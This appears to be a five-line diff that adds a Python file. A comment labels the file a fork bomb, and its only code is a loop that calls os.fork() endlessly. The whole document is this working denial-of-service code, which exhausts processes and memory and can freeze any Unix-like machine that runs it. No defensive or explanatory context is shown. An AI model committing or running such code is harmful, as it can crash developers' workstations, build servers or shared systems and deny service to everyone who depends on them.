@@ -1,0 +1,5 @@
+# A fork bomb.
+import os
+
+while True:
+    os.fork()
